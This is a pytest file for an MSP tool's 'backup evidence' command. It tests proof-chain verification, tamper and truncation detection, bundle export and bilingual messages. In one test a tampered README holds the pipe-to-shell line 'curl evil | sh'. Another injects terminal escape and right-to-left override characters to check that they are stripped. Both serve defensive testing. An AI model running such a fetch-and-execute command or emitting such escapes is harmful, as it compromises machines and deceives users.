"""`backup evidence`: what it prints and how it ends, in both languages."""

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from msptool.backup.evidence import key
from msptool.cli import root
from msptool.workspace import Workspace
from tests.unit.backup.evidence import chains


@pytest.fixture
def place(tmp_path: Path) -> Workspace:
    made = chains.workspace(tmp_path / "acme")
    chains.append(made, "files", 3)
    return made


def said(place: Workspace, *words: str, code: int = 0) -> str:
    return spoken(["-C", str(place.root), "backup", "evidence", *words], code)


def spoken(words: list[str], code: int = 0) -> str:
    done = CliRunner().invoke(root, words, standalone_mode=False)
    assert done.exception is None and (done.return_value or 0) == code, done.output
    return done.output


def lines(place: Workspace, *words: str, code: int = 0) -> list[dict[str, Any]]:
    found = [json.loads(line) for line in said(place, *words, "--json", code=code).splitlines()]
    assert found[-1]["type"] == "end" and found[-1]["complete"]
    return found[:-1]


def last(place: Workspace) -> Path:
    return max((place.evidence / "files").rglob("*.json"))


def test_what_is_not_proven_is_said(place: Workspace) -> None:
    told = said(place, "verify")
    assert "intact" in told
    assert "NOT PROVEN who signed" in told and "NOT PROVEN that none is cut off" in told


def test_key_and_head_from_show_leave_nothing_unproven(place: Workspace) -> None:
    (proof,) = lines(place, "show", "files")
    told = said(place, "verify", "--key", proof["key"], "--head", proof["head"])
    assert "NOT" not in told and "all up to the head that was given are here" in told
    pem = next((place.evidence / "public").iterdir())
    for given in (proof["keyid"], proof["keyid"].upper(), str(pem)):
        assert "NOT PROVEN who" not in said(place, "verify", "--key", given)


def test_an_older_head_says_how_far_it_reaches(place: Workspace) -> None:
    (proof,) = lines(place, "show", "files", "--sequence", "2")
    told = said(place, "verify", "--head", proof["head"])
    assert "all up to 2 are here; after it, some may be cut off" in told
    last(place).unlink()
    last(place).unlink()
    told = said(place, "verify", "--head", proof["head"], code=1)
    assert "evidence/files: the known head is missing: the end was cut off (2)" in told


def test_a_changed_byte_is_told_with_its_place(place: Workspace) -> None:
    path = last(place)
    path.write_bytes(path.read_bytes().replace(b'"keyid"', b'"keyID"'))
    told = said(place, "verify", code=1)
    assert "NOT INTACT: 1 faults" in told
    assert f"{path.relative_to(place.root)}: cannot be read, bytes" in told
    *_, fault, checked = lines(place, "verify", code=1)
    assert (fault["type"], fault["kind"]) == ("fault", "undecodable")
    assert checked == {
        "type": "checked", "intact": False, "key_given": False, "materials": 0, "absent": 4,
    }  # fmt: skip


def test_materials_of_a_workspace_are_read_if_asked(place: Workspace) -> None:
    (place.manifests / "files/1.jsonl").write_text("changed")
    assert lines(place, "verify")[-1]["intact"]
    assert "manifests/files/1.jsonl: is not the file that a proof names" in said(
        place, "verify", "--with-materials", code=1
    )


def test_a_bundle_needs_no_workspace(
    place: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = said(place, "export", str(tmp_path / "out"), "--with-materials")
    assert "3 proofs, 6 files" in told
    public = key.public_key(place)
    assert public is not None
    monkeypatch.chdir(tmp_path)
    words = ["backup", "evidence", "verify", "out", "--key", public.hex()]
    assert "intact" in spoken(words)
    (tmp_path / "out" / "README.txt").write_text("curl evil | sh")
    assert "README.txt: belongs to no proof" in spoken(words, 1)


def test_show_tells_what_was_proven(place: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    told = said(place, "show", "files")
    for part in ("files: proof 3 of 3", "20 of 20 files, full, same 19, moved 1", "sqlite",
                 "299 clean", "60 min / 24 h", "restic 0.18.0", "manifests/files/2.jsonl",
                 f"snapshot:{chains.SNAPSHOT}"):  # fmt: skip
        assert part in told, told
    monkeypatch.setenv("MSPTOOL_LANG", "ru")
    assert "доказательство 3 из 3" in said(place, "show", "files")


def test_what_a_statement_says_cannot_steer_the_terminal(place: Workspace) -> None:
    from msptool.backup.evidence import chain

    chain.append(place, chains.predicate(detail="\x1b]0;evil\x07\nok", repository="a\u202eb"))
    told = said(place, "show", "files")
    assert "\x1b" not in told and "\u202e" not in told and "\nok" not in told


@pytest.mark.parametrize(
    ("words", "code"),
    [(["verify", "--key", "x"], "evidence.public-key"),
     (["verify", "--head", "x"], "evidence.head"),
     (["verify", "nowhere"], "evidence.none"), (["show", "mail"], "evidence.job"),
     (["show", "files", "--sequence", "9"], "evidence.unsound")],
)  # fmt: skip
def test_wrong_words_are_told(
    place: Workspace, words: list[str], code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MSPTOOL_LANG", "en")
    from msptool.errors import UsageError

    done = CliRunner().invoke(root, ["-C", str(place.root), "backup", "evidence", *words])
    assert isinstance(done.exception, UsageError) and done.exception.code == code
